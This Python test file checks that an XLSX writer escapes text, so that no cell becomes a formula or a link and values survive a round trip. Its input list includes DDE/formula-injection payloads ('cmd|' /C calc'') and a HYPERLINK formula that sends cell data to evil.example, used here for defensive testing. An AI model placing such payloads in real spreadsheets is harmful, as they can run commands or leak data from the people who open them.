"""XLSX that no spreadsheet takes for a formula, and that every reader reads back."""

import io
import re
import zipfile
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from heroes.adapters import workbooks
from heroes.adapters.workbooks import write_xlsx

STARTS = "=+-@\t\r\n＝＋－＠"
SIGNS = "=+-@＝＋－＠"


def opened(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def cells(data: bytes, sheet: int = 0) -> list[list[Any]]:
    """What a reader finds in a sheet."""
    return [[cell.value for cell in row] for row in opened(data).worksheets[sheet].iter_rows()]


HOSTILE = [
    *(f"{start}cmd|' /C calc'!A0" for start in [*STARTS, *(f" {sign}" for sign in SIGNS)] if start != "\r"),
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "http://evil.example",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "{=SUM(1,2)}",
    "00123",
    "1e5",
    "-5",
    "TRUE",
    "2026-05-01",
    "'quoted",
    "<b>&amp;</b>",
    "Siân 😀",
    " spaces ",
    "two\nlines",
]


def test_texts_stay_texts_whatever_they_begin_with() -> None:
    data = write_xlsx({"A": [("name",), *((text,) for text in HOSTILE), *((text,) for text in ("", "end"))]})
    sheet = opened(data).worksheets[0]
    found = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in found] == [*HOSTILE, None, "end"]
    assert {cell.data_type for cell in found if cell.value} == {"s"}
    assert {cell.hyperlink for cell in found} == {None}
    quoted = {cell.value for cell in found if cell.quotePrefix}
    assert quoted == {text for text in HOSTILE if text.lstrip()[:1] in set(STARTS) or text[:1] in set(STARTS)}


def test_no_file_in_it_holds_a_formula_a_link_or_something_outside() -> None:
    data = write_xlsx({"A": [("name",), *((text,) for text in HOSTILE)], "B": [("=1",)]})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        inside = {name: archive.read(name).decode() for name in archive.namelist()}
    assert {
        name for name, text in inside.items() if re.search(r"<f[ >]|<hyperlink|TargetMode", text)
    } == set()
    assert {name for name in inside if "external" in name.lower() or name.endswith((".bin", ".vml"))} == set()


def test_numbers_are_numbers_and_instants_are_dates() -> None:
    head = ("int", "float", "decimal", "nothing", "instant", "third")
    at = datetime(2026, 5, 1, 14, 30, tzinfo=timezone(timedelta(hours=2)))
    row = (-5, 0.25, Decimal("7.50"), None, at, Decimal(10) / 3)
    found = opened(write_xlsx({"A": [head, row]})).worksheets[0]
    assert [cell.value for cell in found[2]] == [
        -5,
        0.25,
        7.5,
        None,
        datetime(2026, 5, 1, 12, 30, tzinfo=UTC).replace(tzinfo=None),
        3.333333333333333,
    ]
    assert found["E2"].number_format == 'yyyy-mm-dd hh:mm "UTC"'
    assert [cell.data_type for cell in found[2]] == ["n", "n", "n", "n", "d", "n"]


def test_a_number_that_would_change_is_a_text() -> None:
    row = (10**15 - 1, 10**15, Decimal(10**15), -(10**15), float("nan"), float("-inf"), Decimal("NaN"))
    found = opened(write_xlsx({"A": [("head",), row]})).worksheets[0][2]
    assert [cell.value for cell in found] == [
        10**15 - 1, "1000000000000000", "1000000000000000", "-1000000000000000", "nan", "-inf", "NaN"
    ]  # fmt: skip
    assert [cell.data_type for cell in found] == ["n", *["s"] * 6]


def test_the_head_is_bold_and_stays_in_view_and_columns_are_as_wide_as_what_they_hold() -> None:
    found = opened(write_xlsx({"A": [("a", "title"), (1, "x" * 30), (2, "y" * 500)]})).worksheets[0]
    assert [cell.font.b for cell in found[1]] == [True, True]
    assert [cell.font.b for cell in found[2]] == [False, False]
    assert found.freeze_panes == "A2"
    widths = [round(found.column_dimensions[name].width) for name in "AB"]
    assert widths == [9, 61]


def test_what_no_xml_can_hold_is_left_out() -> None:
    text = "a\x00\r\nb\r\x01\x0b\x1f\ud800\ufffe\uffffc\td"
    assert cells(write_xlsx({"A": [("h",), (text,)]})) == [["h"], ["a\nb\nc\td"]]


@pytest.mark.parametrize("letter, kept", [("x", 32_767), ("😀", 16_383)])
def test_a_text_is_cut_where_a_cell_ends(letter: str, kept: int) -> None:
    assert cells(write_xlsx({"A": [(letter * 40_000,)]})) == [[letter * kept]]


def test_sheets_keep_their_order_and_get_names_that_a_sheet_may_have() -> None:
    names = [
        "Teams",
        "teams",
        "a/b:c*d?[e]\\f",
        "",
        "'",
        "History",
        "x" * 40,
        "x" * 41,
        "'=1'",
        "a\x00\ud800b",
        "\n",
    ]
    found = opened(write_xlsx({name: [(name,)] for name in names})).sheetnames
    assert found == [
        "Teams", "teams 2", "a b c d  e  f", "sheet", "sheet 2", "History sheet", "x" * 31, f"{'x' * 29} 2", "=1",
        "a b", "sheet 3",
    ]  # fmt: skip


def test_a_workbook_without_sheets_or_rows_can_be_opened() -> None:
    assert cells(write_xlsx({})) == []
    assert cells(write_xlsx({"A": []})) == []


def test_more_than_a_sheet_holds_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbooks, "MOST_ROWS", 3)
    monkeypatch.setattr(workbooks, "MOST_COLUMNS", 2)
    assert len(cells(write_xlsx({"A": [(1, 2)] * 3}))) == 3
    for rows in ([(1, 2)] * 4, [(1, 2, 3)]):
        with pytest.raises(ValueError, match="at most"):
            write_xlsx({"A": rows})


@settings(deadline=None, max_examples=50)
@given(
    st.lists(
        st.lists(
            st.text(
                st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="_\ufffe\uffff"), min_size=1
            ),
            min_size=1,
            max_size=4,
        ),
        min_size=1,
        max_size=5,
    )
)
def test_whatever_is_written_is_read_back(rows: list[list[str]]) -> None:
    found = cells(write_xlsx({"A": rows}))
    assert [[value for value in row if value is not None] for row in found] == rows
